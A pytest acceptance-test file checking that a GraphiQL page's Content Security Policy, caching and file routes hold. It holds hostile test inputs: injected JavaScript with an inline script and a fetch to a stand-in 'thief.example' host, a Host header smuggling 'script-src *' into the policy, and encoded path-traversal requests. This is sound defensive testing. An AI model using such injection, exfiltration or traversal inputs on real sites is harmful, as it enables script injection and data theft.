"""How GraphiQL comes to the browser: from us under a strict policy, or else from the public CDN."""

import re
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from threading import Thread

import httpx
import pytest
import uvicorn
from playwright.sync_api import expect
from starlette.applications import Starlette
from starlette.routing import Mount, Route

from server.graphiql.files import BUILT, routes
from server.graphiql.page import Page
from tests.acceptance.chromium import Visit, chromium, visit
from tests.acceptance.process_table import until
from tests.acceptance.server_process import ServerProcess

pytestmark = pytest.mark.browser

CDN = [
    "https://unpkg.com/graphiql@3.8.3/graphiql.min.css",
    "https://unpkg.com/react@18.2.0/umd/react.production.min.js",
    "https://unpkg.com/react-dom@18.2.0/umd/react-dom.production.min.js",
    "https://unpkg.com/graphiql@3.8.3/graphiql.min.js",
]
TAB = re.compile(r'<script id="[\w-]+" type="text/plain">.+?</script>', re.DOTALL)

INTRUSION = """
() => {
  document.body.insertAdjacentHTML("beforeend",
    "<p style='color: red' onclick='stolen = true'>bait</p><style>p { top: 1px }</style>");
  document.querySelector("body > p").click();
  const script = document.createElement("script");
  script.textContent = "stolen = true";
  document.body.append(script);
  fetch("https://thief.example/").catch(() => {});
}
"""


def get(address: str, **headers: str) -> httpx.Response:
    """As a browser asks for a page."""
    with httpx.Client(trust_env=False) as client:
        return client.get(address, headers={"accept": "text/html"} | headers)


def policy(page: httpx.Response) -> dict[str, list[str]]:
    """The sources of each directive, the nonce as NONCE."""
    text = re.sub(r"'nonce-[\w-]{22}'", "NONCE", page.headers["content-security-policy"])
    return {name: sources for name, *sources in map(str.split, text.split("; "))}


def violations(seen: Visit) -> set[str]:
    """The directives that something was against."""
    found = (re.search(r"policy: (\S+)", one) for one in seen.complaints)
    return {one.group(1) for one in found if one}


@pytest.fixture
def built() -> list[str]:
    """The names of what `make web` has made."""
    names = sorted(one.name for one in BUILT.glob("*.js"))
    if not names:
        pytest.fail("This test needs GraphiQL's files: run `make web`.")
    return names


@pytest.fixture
def without_built(tmp_path: Path) -> Iterator[str]:
    """The address of a server as it is before `make web`, of which there is only the page."""
    nothing = tmp_path / "nothing"
    page = Route("/graphql", Page(nothing).response)
    app = Starlette(routes=[page, Mount("/graphiql", routes=routes(nothing))])
    with serving(app) as address:
        yield address


@contextmanager
def serving(app: Starlette) -> Iterator[str]:
    config = uvicorn.Config(app, lifespan="off", ws="none", log_config=None)
    server = uvicorn.Server(config)
    with socket.create_server(("127.0.0.1", 0)) as listening:
        thread = Thread(target=server.run, kwargs={"sockets": [listening]})
        thread.start()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
        server.should_exit = True
        thread.join()


def test_the_page_may_load_nothing_but_our_own_files(
    running: ServerProcess, built: list[str]
) -> None:
    page = get(f"{running.url}/graphql")

    host = running.url.removeprefix("http://")
    assert policy(page) == {
        "default-src": ["'none'"],
        "script-src": ["'self'"],
        "style-src": ["'self'", "NONCE"],
        "connect-src": ["'self'", f"ws://{host}", f"wss://{host}"],
        "worker-src": ["'self'"],
        "img-src": ["'self'", "data:"],
        "font-src": ["'self'", "data:"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
        "frame-ancestors": ["'none'"],
    }
    assert page.headers["referrer-policy"] == "same-origin"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["cache-control"] == "no-cache"
    assert "Accept" in page.headers["vary"]
    assert "https:" not in page.text


def test_no_two_pages_have_the_same_nonce(running: ServerProcess) -> None:
    policies = {get(f"{running.url}/graphql").headers["content-security-policy"] for _ in range(3)}

    assert len(policies) == 3


def test_a_host_that_is_none_gets_no_place_in_the_policy(running: ServerProcess) -> None:
    page = get(f"{running.url}/graphql", host="a; script-src *")

    assert policy(page)["connect-src"] == ["'self'"]
    assert policy(page)["script-src"] == ["'self'"]


def test_a_browser_keeps_built_files_for_good_and_asks_again_for_the_others(
    running: ServerProcess, built: list[str]
) -> None:
    immutable = "public, max-age=31536000, immutable"
    folder = f"{running.url}/graphiql"

    answers = [(get(f"{folder}/built/{name}"), immutable) for name in built]
    answers.append((get(f"{folder}/tabs.js"), "no-cache"))

    for answer, kept in answers:
        assert answer.status_code == 200
        assert answer.headers["cache-control"] == kept
        assert answer.headers["content-type"].startswith(("text/javascript", "application/javascr"))
        assert answer.headers["x-content-type-options"] == "nosniff"
        again = get(str(answer.url), **{"if-none-match": answer.headers["etag"]})
        assert (again.status_code, again.headers["cache-control"]) == (304, kept)


@pytest.mark.parametrize("path", ["built/main.js", "page.html", "..%2fpage.py", "%2e%2e/page.py"])
def test_other_files_are_not_there(running: ServerProcess, path: str) -> None:
    assert get(f"{running.url}/graphiql/{path}").status_code == 404


def test_without_built_files_the_page_names_the_cdn_and_may_load_just_that(
    running: ServerProcess, without_built: str, built: list[str]
) -> None:
    page = get(f"{without_built}/graphql")

    named = re.findall(r'"(https://[^"]+)"\s+integrity="sha384-[\w+/]{64}"', page.text)
    assert named == CDN
    assert page.text.count("https:") == len(CDN)
    assert policy(page)["script-src"] == ["'self'", *CDN[1:]]
    assert policy(page)["style-src"] == ["'self'", CDN[0], "NONCE"]
    ours = policy(get(f"{running.url}/graphql"))
    others = {name for name in ours if policy(page)[name] != ours[name]}
    assert others == {"script-src", "style-src", "connect-src"}  # the last one has our port
    assert TAB.findall(page.text) == TAB.findall(get(f"{running.url}/graphql").text)


def test_without_built_files_and_without_the_network_the_page_says_what_to_do(
    without_built: str,
) -> None:
    with chromium() as browser:
        seen = visit(browser, without_built)

        seen.page.goto(f"{without_built}/graphql")

        expect(
            seen.page.get_by_text("To have it without the internet, run make web")
        ).to_be_visible()
        assert seen.elsewhere == CDN
        said = ["error: Failed to load resource: net::ERR_FAILED"] * len(CDN)
        assert sorted(seen.complaints) == sorted(said + [f"{one}: net::ERR_FAILED" for one in CDN])
        seen.page.context.close()


def test_what_the_policy_forbids_does_not_happen(running: ServerProcess, built: list[str]) -> None:
    """Whatever gets into the page: no script of its own, no style, no word to anybody else."""
    with chromium() as browser:
        seen = visit(browser, running.url)
        seen.page.goto(f"{running.url}/graphql")

        seen.page.evaluate(INTRUSION)

        until(lambda: seen.page.title() and len(violations(seen)) == 5, "five violations")
        assert violations(seen) == {
            "connect-src",
            "script-src-attr",
            "script-src-elem",
            "style-src-attr",
            "style-src-elem",
        }
        assert seen.page.evaluate("typeof stolen") == "undefined"
        assert seen.elsewhere == []
        seen.page.context.close()
